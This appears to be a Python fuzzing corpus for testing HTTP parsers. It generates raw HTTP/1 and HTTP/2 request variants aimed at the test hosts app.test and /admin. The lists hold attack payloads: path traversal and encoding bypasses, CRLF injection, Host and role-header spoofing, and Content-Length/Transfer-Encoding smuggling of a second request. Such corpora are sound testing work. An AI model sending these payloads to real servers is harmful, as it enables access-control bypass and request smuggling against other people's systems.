"""Two hundred ways to spell a request so that two readers may disagree about it: each is a name and the bytes that are sent.

Where a spelling needs a target, it is `/admin`; where a second request is to be smuggled, it is for `/admin/smuggled`.
"""

from __future__ import annotations

from collections.abc import Iterator

Attempt = tuple[str, bytes]

SMUGGLED = b"GET /admin/smuggled HTTP/1.1\r\nHost: app.test\r\n\r\n"

PATHS: tuple[bytes, ...] = (
    b"/admin", b"/admin/", b"/admin/x", b"/admin?a", b"/admin?", b"/admin#a", b"/admin;x=y", b"/admin;", b"/admin.", b"/admin%20", b"/admin%00",
    b"/admin%0d%0aX:%20y", b"/admin%09", b"/admin%2f", b"/admin%2Fx", b"/admin%5cx", b"/admin/%2e", b"/admin/./x", b"/admin/../admin", b"/admin//",
    b"//admin", b"///admin", b"//app.test/admin", b"/./admin", b"/.//admin", b"/.;/admin", b"/;/admin", b"/;x=/admin", b"/%2e/admin", b"/%2E%2e/admin",
    b"/../admin", b"/../../admin", b"/.../admin", b"/..admin", b"/.admin", b"/ad\xc2\xadmin", b"/%61dmin", b"/%61%64%6d%69%6e", b"/%41dmin", b"/Admin", b"/ADMIN",
    b"/admi%6e/x", b"/%2561dmin", b"/%u0061dmin", b"/%2fadmin", b"/%2Fadmin", b"/%252fadmin", b"/%5cadmin", b"/%255cadmin", b"\\admin", b"/\\admin",
    b"\\\\admin", b"/public/../admin", b"/public/./../admin", b"/public//../admin", b"/public/x/../../admin", b"/public/..", b"/public/../", b"/public/..//admin",
    b"/public/..;/admin", b"/public/..;x=y/admin", b"/public/.;/../admin", b"/public;/../admin", b"/public/%2e%2e/admin", b"/public/%2e./admin", b"/public/.%2E/admin",
    b"/public/..%2fadmin", b"/public/..%2Fadmin", b"/public%2f..%2fadmin", b"/public/..%5cadmin", b"/public\\..\\admin", b"/public/..\\admin", b"/public/%2e%2e%2fadmin",
    b"/public/%252e%252e/admin", b"/public/%252e%252e%252fadmin", b"/public/..%00/admin", b"/public/%c0%ae%c0%ae/admin", b"/%c0%afadmin", b"/public/..%c0%afadmin",
    b"/%e0%80%afadmin", b"/public/..%ef%bc%8fadmin", b"/public/\xc0\xae\xc0\xae/admin", b"/public\x00/../admin", b"/ad\x00min", b"/admin\x00", b"/public?/../admin",
    b"/public?x=/admin", b"/public#/../admin", b"/public%3f/../admin", b"/public%23/../admin", b"/public/..?/admin", b"/?/admin", b"/public/%2e%2e?x/admin",
    b"admin", b"", b"*", b"?", b"/public /admin", b"/public%20HTTP/1.1%0d%0a", b"/public\t/admin", b"/public/|/../admin", b"/public/%zz/../admin", b"/public/%/../admin",
    b"http://app.test/admin", b"http://app.test//admin", b"http://app.test/public/../admin", b"http://other.test/admin", b"http://app.test", b"http://app.test?/admin",
    b"http:///admin", b"http://app.test@other.test/admin", b"http://app.test:80/admin", b"HTTP://APP.TEST/admin", b"https://app.test/admin", b"ftp://app.test/admin",
    b"http:/admin", b"//http://app.test/admin", b"/" + b"a/../" * 300 + b"admin", b"/" + b"x" * 9000,
)  # fmt: skip

METHODS: tuple[bytes, ...] = (
    b"DELETE", b"delete", b"Delete", b"DELETE\t", b" DELETE", b"DELETE ", b"DELETEX", b"GET\x00", b"CONNECT", b"TRACE", b"PRI", b"FOO", b"GE T", b"", b"X" * 300, b"OPTIONS",
)  # fmt: skip

HOSTS: tuple[bytes, ...] = (
    b"Host: admin.test", b"Host: ADMIN.test", b"Host: admin.test.", b"Host: admin.test:80", b"Host: admin.test:", b"Host: admin.test:080", b"Host: admin.test:80:80",
    b"Host: admin.test\tx", b"Host: app.test@admin.test", b"Host: app.test,admin.test", b"Host: app.test admin.test", b"Host: admin.test/", b"Host: admin.test\x00",
    b"Host: app.test\r\nHost: admin.test", b"Host: admin.test\r\nHost: app.test", b"Host : admin.test", b"Host: app.test\r\nX-Forwarded-Host: admin.test",
    b"Host: app.test\r\n Host: admin.test", b"Host: app.test\r\n:authority: admin.test", b"Host:", b"X: y", b"Host: [::1]", b"Host: %61dmin.test",
)  # fmt: skip

HEADERS: tuple[bytes, ...] = (
    b"X-Role: admin", b"x-role: admin", b"X-ROLE:admin", b"X-Role: ADMIN", b"X-Role:\tadmin", b"X-Role: admin ", b"X-Role: user\r\nX-Role: admin", b"X-Role: admin\r\nX-Role: user",
    b"X-Role: user,admin", b"X-Role: user\r\n admin", b"X-Role:\r\n admin", b"X-Role: a\r\n\tdmin", b"X-Role : admin", b" X-Role: admin", b"X-Role\x00: admin", b"X-Role: admin\x00",
    b"X-Role: user\rX-Role: admin", b"X-Role: user\nX-Role: admin", b"X: y\nX-Role: admin", b"X: y\r\n\x0bX-Role: admin", b"X_Role: admin", b"X-Role: admin\r\nConnection: x-role",
    b"Connection: x-role\r\nX-Role: admin", b"Connection: close, x-role\r\nX-Role: admin", b"Connection: host\r\nX-A: b", b"X-Role:\xa0admin", b"X-Role: \"admin\"", b"X-Role: ad\xc2\xadmin",
    b"X-Original-URL: /admin", b"X-Rewrite-URL: /admin", b"X-Envoy-Original-Path: /admin", b"X-HTTP-Method-Override: DELETE", b":path: /admin", b":method: DELETE",
    b"X-Forwarded-For: 10.9.9.9\r\nX-Forwarded-For: 127.0.0.1", b"X-Forwarded-Proto: https", b"X-Envoy-Force-Trace: 1", b"X-Envoy-Upstream-Alt-Stat-Name: x", b"Te: trailers",
    b"X-Long: " + b"a" * 70000, b"\r\n".join(b"X-%d: y" % n for n in range(120)), b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA",
    b"Expect: 100-continue", b"Proxy-Connection: keep-alive", b"Keep-Alive: timeout=5", b"No colon here", b": empty", b"X-Empty:",
)  # fmt: skip

_CHUNKED = b"0\r\n\r\n"
BODIES: tuple[tuple[bytes, bytes], ...] = (
    (b"Content-Length: 5\r\nTransfer-Encoding: chunked", _CHUNKED), (b"Transfer-Encoding: chunked\r\nContent-Length: 5", _CHUNKED),
    (b"Content-Length: %d\r\nTransfer-Encoding: chunked" % len(_CHUNKED + SMUGGLED), _CHUNKED), (b"Content-Length: 4\r\nTransfer-Encoding: chunked", b"5c\r\n" + SMUGGLED + b"0\r\n\r\n"),
    (b"Transfer-Encoding : chunked\r\nContent-Length: 0", _CHUNKED), (b"Transfer-Encoding: xchunked\r\nContent-Length: 0", _CHUNKED), (b"Transfer-Encoding: chunked, identity", _CHUNKED),
    (b"Transfer-Encoding: identity, chunked", _CHUNKED), (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", _CHUNKED), (b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", _CHUNKED),
    (b"Transfer-Encoding: \x0bchunked", _CHUNKED), (b"Transfer-Encoding:\tchunked", _CHUNKED), (b"Transfer-Encoding: chunked;q=1", _CHUNKED), (b"Transfer-Encoding: \"chunked\"", _CHUNKED),
    (b"Transfer-Encoding: Chunked", _CHUNKED), (b"Transfer-Encoding:\r\n chunked", _CHUNKED), (b"Transfer-Encoding: chunk", _CHUNKED), (b"Transfer_Encoding: chunked\r\nContent-Length: 0", _CHUNKED),
    (b"X: y\nTransfer-Encoding: chunked", _CHUNKED), (b"Content-Length: 0\r\nContent-Length: 5", b""), (b"Content-Length: 5\r\nContent-Length: 0", b""), (b"Content-Length: 0, 0", b""),
    (b"Content-Length: 0, 5", b""), (b"Content-Length: -1", b""), (b"Content-Length: +0", b""), (b"Content-Length: 0x0", b""), (b"Content-Length: 0 5", b""), (b"Content-Length:", b""),
    (b"Content-Length: 99999999999999999999", b""), (b"Content-Length : 5", b""), (b"Content_Length: 5", b""), (b"Transfer-Encoding: chunked", b"0;ext=1\r\n\r\n"),
    (b"Transfer-Encoding: chunked", b"0;ext=\"\r\n\"\r\n\r\n"), (b"Transfer-Encoding: chunked", b"0;\nGET /admin/smuggled HTTP/1.1\r\n\r\n"), (b"Transfer-Encoding: chunked", b"0\n\n"),
    (b"Transfer-Encoding: chunked", b"0\r\nX: y\r\n\r\n"), (b"Transfer-Encoding: chunked", b"0\r\nX-Role: admin\r\n\r\n"), (b"Transfer-Encoding: chunked", b" 0\r\n\r\n"), (b"Transfer-Encoding: chunked", b"0x0\r\n\r\n"),
    (b"Transfer-Encoding: chunked", b"-0\r\n\r\n"), (b"Transfer-Encoding: chunked", b"ffffffffffffffff1\r\na\r\n0\r\n\r\n"), (b"Transfer-Encoding: chunked", b"1\r\naX\r\n0\r\n\r\n"), (b"Transfer-Encoding: chunked", b"\r\n"),
    (b"Expect: 100-continue\r\nContent-Length: 0", b""), (b"Connection: content-length\r\nContent-Length: 5", b""), (b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked", _CHUNKED),
)  # fmt: skip

LINES: tuple[bytes, ...] = (
    b"GET /admin HTTP/1.0\r\n", b"GET /admin HTTP/0.9\r\n", b"GET /admin\r\n", b"GET  /admin HTTP/1.1\r\n", b"GET\t/admin HTTP/1.1\r\n", b"GET /admin  HTTP/1.1\r\n", b"GET /admin HTTP/1.1 \r\n",
    b"GET /admin HTTP/1.1\n", b"GET /admin HTTP/1.1\r", b"GET /admin http/1.1\r\n", b"GET /admin HTTP/2.0\r\n", b"GET /admin HTTP/1.2\r\n", b"GET /admin HTTP/1.1\r\n\r\n", b"\r\n\r\nGET /admin HTTP/1.1\r\n",
    b"\nGET /admin HTTP/1.1\r\n", b"GET /public HTTP/1.1\rGET /admin HTTP/1.1\r\n", b"GET /public HTTP/1.1\nX: y\r\n", b"GET /public HTTP/1.1 GET /admin HTTP/1.1\r\n", b"\xef\xbb\xbfGET /admin HTTP/1.1\r\n",
)  # fmt: skip


def attempts() -> Iterator[Attempt]:
    """Everything of HTTP/1: each followed by a request that must be smuggled by nothing but pipelining, which is judged on its own."""
    host = b"Host: app.test\r\n"
    for path in PATHS:
        yield f"path {path[:60]!r}", b"GET " + path + b" HTTP/1.1\r\n" + host + b"\r\n"
    for method in METHODS:
        yield f"method {method[:20]!r}", method + b" /public HTTP/1.1\r\n" + host + b"\r\n"
    for line in HOSTS:
        yield f"host {line!r}", b"GET /public HTTP/1.1\r\n" + line + b"\r\n\r\n"
    for line in HEADERS:
        yield f"header {line[:60]!r}", b"GET /public HTTP/1.1\r\n" + host + line + b"\r\n\r\n"
    for line, body in BODIES:
        yield f"body {line!r} {body[:30]!r}", b"POST /public HTTP/1.1\r\n" + host + line + b"\r\n\r\n" + body + SMUGGLED
    for line in LINES:
        yield f"line {line!r}", line + host + b"\r\n"


H2_PATHS: tuple[bytes, ...] = (
    *PATHS[:12],
    *PATHS[20:60],
    b"/public HTTP/1.1\r\nX: y",
    b"/public\r\n\r\nGET /admin HTTP/1.1\r\n",
    b"/public\n",
    b"/public x",
)
H2_HEADERS: tuple[tuple[tuple[bytes, bytes], ...], ...] = (
    ((b"x-role", b"admin"),), ((b"X-Role", b"admin"),), ((b"x-role", b"user\r\nx-role: admin"),), ((b"x-role", b"user\nx-role: admin"),), ((b"x-role\r\nx", b"admin"),), ((b"x-role", b"admin\x00"),),
    ((b"x-role:", b"admin"),), ((b"x role", b"admin"),), ((b"x-role", b" admin"),), ((b"x-role", b"admin\t"),), ((b"x-role", b"\t admin "),), ((b"x-role", b"user"), (b"x-role", b"admin")), ((b"transfer-encoding", b"chunked"),), ((b"connection", b"x-role"), (b"x-role", b"admin")),
    ((b"content-length", b"5"),), ((b"content-length", b"0"), (b"content-length", b"5")), ((b"host", b"admin.test"),), ((b"upgrade", b"websocket"),), ((b"te", b"chunked"),), ((b":path", b"/admin"),),
    ((b":authority", b"admin.test"),), ((b":method", b"DELETE"),), ((b":scheme", b"https"),), ((b":unknown", b"x"),), ((b"keep-alive", b"5"),), ((b"proxy-connection", b"x"),), ((b"", b"x"),),
)  # fmt: skip
H2_METHODS: tuple[bytes, ...] = (b"DELETE", b" DELETE", b"DELETE\t", b"delete", b"GET /admin HTTP/1.1\r\nX: ", b"GET ", b"", b"CONNECT")
H2_HOSTS: tuple[bytes, ...] = (
    b"admin.test",
    b"ADMIN.test",
    b"admin.test:80",
    b"admin.test.",
    b"app.test@admin.test",
    b"app.test\r\nX-Role: admin",
    b"",
    b"app.test/admin",
)
